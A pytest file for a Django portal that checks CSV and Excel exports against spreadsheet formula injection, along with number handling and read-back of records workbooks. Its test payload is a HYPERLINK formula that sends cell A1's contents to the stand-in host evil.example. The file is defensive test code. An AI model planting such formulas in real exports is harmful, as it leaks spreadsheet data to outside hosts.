"""No spreadsheet or CSV file the portal makes holds a live formula: a text that a spreadsheet
would run (starting with =, +, -, @, tab or carriage return) is written as text with a leading
apostrophe, in the records workbook of a creating place (§7) and in every list's CSV and Excel
download alike. Negative numbers stay numbers; the records workbook reads back as it was."""

import csv
import io
from decimal import Decimal

import pytest
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from places.kinds import RECORD_KINDS
from places.tests.factories import (
    ArtTeamFactory,
    CulturalEventFactory,
    FacilityFactory,
    HonourFactory,
    InvestmentFactory,
    TrainingCourseFactory,
)
from places.tests.test_place_excel import assert_reads_back_the_same
from portal.exports import UTF8_BOM, cell, csv_lines, xlsx_response

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FACTORIES = {
    "facilities": FacilityFactory,
    "art-teams": ArtTeamFactory,
    "events": CulturalEventFactory,
    "training": TrainingCourseFactory,
    "investments": InvestmentFactory,
    "honours": HonourFactory,
}


def _formula(start: str) -> str:
    return f'{start}HYPERLINK("http://evil.example/?"&A1,"查看")'


def _text_fields(kind) -> list[str]:
    return [
        name
        for name in kind.fields
        if isinstance(kind.field(name), models.CharField | models.TextField)
        and not kind.field(name).choices
    ]


def _is_plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


def _live(value, data_type: str | None = None) -> bool:
    """Whether a cell would run in a spreadsheet: a formula cell, or a text starting with a
    formula sign (a plain number written as text, "-12.5", is not one)."""
    if data_type == "f":
        return True
    return isinstance(value, str) and value[:1] in FORMULA_STARTS and not _is_plain_number(value)


def _live_cells_of_workbook(content: bytes) -> list[tuple[str, str, object]]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if _live(cell.value, cell.data_type)
    ]


def _csv_values(content: bytes) -> list[str]:
    text = content.decode("utf-8")
    assert text.startswith(UTF8_BOM)
    return [value for row in csv.reader(io.StringIO(text[len(UTF8_BOM) :])) for value in row]


def _workbook_values(content: bytes) -> list[object]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
    ]


def _records_with_formulas(unit) -> int:
    """One record of every kind per formula sign, every text field starting with it."""
    made = 0
    for kind in RECORD_KINDS:
        fields = _text_fields(kind)
        if not fields:
            continue
        for start in FORMULA_STARTS:
            FACTORIES[kind.section](unit=unit, **{name: _formula(start) for name in fields})
            made += 1
    return made


def test_spreadsheet_text_neutralises_formulas_and_reads_back():
    from portal.exports import spreadsheet_text, spreadsheet_text_read

    for start in FORMULA_STARTS:
        assert spreadsheet_text(_formula(start)) == "'" + _formula(start)
    for plain in ("-12.5", "+3", "1e-3", "长沙市", "'引号", ""):
        assert spreadsheet_text(plain) == plain
    for text in (*map(_formula, FORMULA_STARTS), "'=x", "''@y", "'引号", "-12.5", "a'=b"):
        written = spreadsheet_text(text)
        assert not _live(written)
        assert spreadsheet_text_read(written) == text


def test_negative_numbers_stay_numbers():
    assert cell(-3) == -3
    assert cell(Decimal("-12.50")) == Decimal("-12.50")
    assert cell("-12.50") == "-12.50"  # a serializer's decimal, as text
    lines = list(csv_lines(["a", "b", "c", "d"], [[-3, Decimal("-1.5"), "-1.5", "-1-1"]]))
    assert lines[1] == "-3,-1.5,-1.5,'-1-1\r\n"
    response = xlsx_response(["a", "b"], [[-3, Decimal("-1.5")]], filename="x")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert [(c.value, c.data_type) for c in sheet[2]] == [(-3, "n"), (-1.5, "n")]


def test_records_workbook_has_no_formula_cell_and_reads_back_the_same(world, client):
    own = world.objects["units"]["own"]
    own.name = _formula("=")
    own.save(update_fields=["name"])
    assert _records_with_formulas(own) > 30
    client.force_login(world.users["unit_staff"])
    response = client.get(reverse("place:records-export", kwargs={"pk": own.pk}))
    assert response.status_code == 200
    assert _live_cells_of_workbook(response.content) == []
    # the values are all there, as text
    values = set(_workbook_values(response.content))
    for start in FORMULA_STARTS:
        assert "'" + _formula(start) in values

    assert_reads_back_the_same(world.users["unit_staff"], own, response.content)


def test_records_template_has_no_formula_cell(world, client):
    own = world.objects["units"]["own"]
    own.name = _formula("@")
    own.save(update_fields=["name"])
    client.force_login(world.users["unit_staff"])
    response = client.get(reverse("place:records-template", kwargs={"pk": own.pk}))
    assert response.status_code == 200
    assert _live_cells_of_workbook(response.content) == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("route", ["api:facility-list", "api:unit-list"])
def test_api_export_has_no_formula_cell(world, fmt, route):
    own = world.objects["units"]["own"]
    own.name = _formula("+")
    own.save(update_fields=["name"])
    assert _records_with_formulas(own) > 0
    api = APIClient()
    api.force_authenticate(world.users["unit_staff"])
    response = api.get(reverse(route), {"format": fmt})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if fmt == "csv":
        values = _csv_values(content)
        assert [value for value in values if _live(value)] == []
    else:
        assert _live_cells_of_workbook(content) == []
        values = _workbook_values(content)
    assert "'" + _formula("+") in values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_page_export_has_no_formula_cell(world, client, fmt):
    own = world.objects["units"]["own"]
    _records_with_formulas(own)
    client.force_login(world.users["unit_staff"])
    response = client.get(reverse("place:records", kwargs={"pk": own.pk}), {"format": fmt})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if fmt == "csv":
        assert [value for value in _csv_values(content) if _live(value)] == []
    else:
        assert _live_cells_of_workbook(content) == []


def test_both_writers_neutralise_every_text_column_of_every_export():
    """Every CSV and Excel file of the portal (API lists, page lists, the error file) is written
    by `csv_lines` or `xlsx_response`, each cell through `cell`: whatever column holds the text,
    header or value, nothing starts a formula."""
    values = [f"{start}SUM(A1:A2)" for start in FORMULA_STARTS]
    headers = [f"{start}列" for start in FORMULA_STARTS]
    rows = [values, list(reversed(values))]

    text = "".join(csv_lines(headers, rows)).removeprefix(UTF8_BOM)
    for line in csv.reader(io.StringIO(text, newline="")):
        for value in line:
            assert value[:1] == "'", value

    response = xlsx_response(headers, rows, filename="x")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    for row in sheet.iter_rows():
        for spreadsheet_cell in row:
            assert spreadsheet_cell.data_type != "f", spreadsheet_cell.value
            assert str(spreadsheet_cell.value)[:1] == "'", spreadsheet_cell.value
